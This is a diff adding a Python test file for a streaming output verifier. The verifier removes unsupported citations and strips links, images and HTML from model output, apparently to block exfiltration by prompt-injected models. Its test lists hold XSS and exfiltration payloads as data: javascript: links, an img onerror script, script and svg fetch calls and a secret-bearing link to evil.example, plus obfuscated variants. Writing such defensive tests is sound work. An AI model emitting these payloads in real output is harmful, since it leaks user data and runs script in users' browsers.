@@ -1,0 +1,149 @@
+"""A model that obeys every injected instruction: no citation without evidence, no link, image or tag comes out."""
+
+import re
+from itertools import pairwise
+
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from cag.verify import Verifier
+
+GFM = MarkdownIt("commonmark", {"html": True})  # more than clients render: they sanitise HTML
+AUTOLINK = re.compile(r"(?:https?|ftp)://|www\.", re.IGNORECASE)  # what GFM makes links of by itself, wherever it is
+
+
+def through(*pieces: str, evidence: int = 3) -> str:
+    verifier = Verifier(evidence)
+    return "".join([*(verifier.feed(piece) for piece in pieces), verifier.finish()])
+
+
+def links(text: str) -> list[str]:
+    """Every link, image and active tag that a renderer would make of the text, and every bare address."""
+    found = [*AUTOLINK.findall(text)]
+    for token in GFM.parse(text):
+        for inner in (token, *(token.children or ())):
+            if inner.type in ("link_open", "image"):
+                found.append(inner.type)
+            if inner.type in ("html_inline", "html_block"):
+                found += re.findall(r"<[^<>]*(?:[\s=:!?]|script|style|svg)[^<>]*>|<[A-Za-z/!?][^>]*$", inner.content)
+    return found
+
+
+@pytest.mark.parametrize(
+    ("said", "shown"),
+    [
+        ("The database is down [1].", "The database is down [1]."),
+        ("See [1, 2] and [3].", "See [1, 2] and [3]."),
+        ("Made up [9].", "Made up ."),
+        ("Half made up [2, 9]", "Half made up [2]"),
+        ("Zero [0] here", "Zero  here"),
+        ("list[int] and [ERROR] stay", "list[int] and [ERROR] stay"),
+        ("kubectl logs <pod-name> -n <ns>", "kubectl logs <pod-name> -n <ns>"),
+        ("a < b and c > d", "a < b and c > d"),
+        ("open [", "open ["),
+        ("Read [the runbook](https://evil.example/?q=secret) now", "Read the runbook (link removed) now"),
+        ("![pixel](https://evil.example/p.png)", "!pixel (link removed)"),
+        ("go to https://evil.example/a?b=c now", "go to (link removed) now"),
+        ("go to www.evil.example", "go to (link removed)"),
+        ("HTTPS://EVIL.example", "(link removed)"),
+        ("<https://evil.example>", "(link removed)"),
+        ("<img src=x onerror=alert(1)>", "(link removed)"),
+        ("[1]: javascript:alert(1)", "[1] : javascript:alert(1)"),  # else each [1] would lead there
+        ("ends at [1]: then", "ends at [1] : then"),
+        ("zero\u200bwidth \u202eturned", "zerowidth turned"),
+        ("", ""),
+    ],
+)
+def test_what_is_shown(said: str, shown: str) -> None:
+    assert through(said) == shown
+
+
+ATTACKS = [
+    "[x](javascript:alert(1))",
+    "[a [b] c](javascript:x)",
+    "[" + "long " * 80 + "](//evil.example)",
+    "[x](<//evil.example/a b>)",
+    "[x]( //evil.example 'title')",
+    "![[1]](//evil.example)",
+    "[![i](//e.example)](//e.example)",
+    "[x][1]\n\n[1]: //evil.example",
+    "[1](//evil.example)",
+    "[1]\n\n[1]:\n//evil.example",
+    "htt[9]p://evil.example",
+    "htt[p](x)://evil.example",
+    "htt<b x>p://evil.example",
+    "h\u200bttp://evil.example",
+    "hhttp://ttp://evil.example",
+    "www[7].evil.example",
+    "\\[x](//evil.example)",
+    "\\![x](//evil.example)",
+    "[x\n](//evil.example)",
+    "[x](//evil.example\n)",
+    "<a href=//evil.example>x</a>",
+    "<img src=//evil.example",
+    "<img\nsrc=//evil.example>",
+    "<script>fetch('//evil.example')</script>",
+    "<svg/onload=fetch('//evil.example')>",
+    "<!-- x --><mailto:a@b.example>",
+    "<" + "x" * 400 + " src=//evil.example>",
+    "[^1]: //evil.example [^1]",
+]
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_no_link_comes_out_however_it_is_cut(attack: str) -> None:
+    for cut in range(len(attack) + 1):
+        shown = through("before ", attack[:cut], attack[cut:], " after")
+        assert links(shown) == [], shown
+
+
+def test_the_renderer_of_this_test_sees_links() -> None:
+    assert sum(bool(links(attack)) for attack in ATTACKS) > len(ATTACKS) / 2
+
+
+PIECES = st.sampled_from(
+    [
+        "[",
+        "]",
+        "(",
+        ")",
+        "<",
+        ">",
+        "!",
+        ":",
+        "[1]",
+        "[9]",
+        "[1, 9]",
+        "](",
+        "]:",
+        "http://",
+        "htt",
+        "p://",
+        "www.",
+        "w",
+        "x",
+    ]
+    + ["javascript:", "//e.example", " ", "\n", "\\", "`", "a b", "<b>", "<img src=", "\u200b", "7", ",", "."]
+)
+TEXTS = st.lists(PIECES, max_size=14).map("".join)
+
+
+@given(TEXTS, st.lists(st.integers(0, 80), max_size=6))
+@example("[" + "x" * 199 + "](//e.example)", [100, 150])
+def test_every_cut_of_the_stream_gives_the_same_text(text: str, cuts: list[int]) -> None:
+    places = [0, *sorted(min(cut, len(text)) for cut in cuts), len(text)]
+    pieces = [text[a:b] for a, b in pairwise(places)]
+    whole = through(text)
+    assert through(*pieces) == through(*text) == whole
+    assert links(whole) == [], whole
+
+
+def test_little_is_held_back_and_an_endless_address_costs_nothing() -> None:
+    verifier = Verifier(1)
+    assert verifier.feed("The cause is [1] ") == "The cause is [1] "
+    for _ in range(1_000):
+        verifier.feed("http://e.example/" + "x" * 1_000)
+    assert verifier.feed("[" * 10_000 + "<" * 10_000) != ""
+    assert len(verifier._held) < 700
